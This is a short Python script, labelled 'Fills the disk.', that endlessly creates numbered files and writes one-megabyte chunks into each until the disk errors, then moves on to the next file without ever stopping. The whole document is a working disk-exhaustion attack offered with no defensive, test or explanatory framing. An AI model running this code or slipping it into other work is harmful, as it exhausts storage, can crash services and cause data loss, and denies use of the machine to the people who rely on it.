"""Fills the disk."""
number = 0
while True:
    number += 1
    with open(f'big{number}', 'wb') as file:
        try:
            while True:
                file.write(b'x' * (1 << 20))
        except OSError:
            pass
